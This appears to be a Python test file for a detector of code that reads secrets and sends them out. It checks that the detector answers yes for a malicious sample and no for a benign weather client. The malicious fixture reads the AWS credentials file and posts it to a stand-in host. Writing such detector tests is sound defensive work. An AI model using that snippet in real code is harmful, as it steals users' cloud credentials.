from knownhands.records import Answer

STEALS = """
import os, requests
secret = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("https://drop.example/in", data=secret)
"""
ASKS = """
import os, requests


def weather(place):
    proxy = os.environ.get("HTTPS_PROXY")
    return requests.get("https://weather.example/" + place, proxies={"https": proxy})
"""


def test_a_file_that_reads_a_credential_and_posts_it_is_told(ask):
    finding = ask("reads_secrets_and_sends_data", {"pots/__init__.py": STEALS})
    assert finding.answer is Answer.YES
    assert finding.evidence[0].ref == "pots/__init__.py"


def test_a_client_that_reads_its_settings_is_not(ask):
    assert ask("reads_secrets_and_sends_data", {"pots/__init__.py": ASKS}).answer is Answer.NO
